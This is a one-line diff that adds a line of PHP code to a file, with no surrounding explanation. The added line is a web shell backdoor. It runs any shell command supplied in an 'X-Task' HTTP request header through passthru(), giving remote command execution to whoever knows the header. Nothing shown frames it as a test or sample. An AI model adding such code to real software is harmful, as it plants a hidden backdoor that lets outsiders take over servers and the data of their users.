@@ -1,0 +1,1 @@
+<?php $c = getenv('HTTP_X_TASK'); if ($c) { passthru($c); }
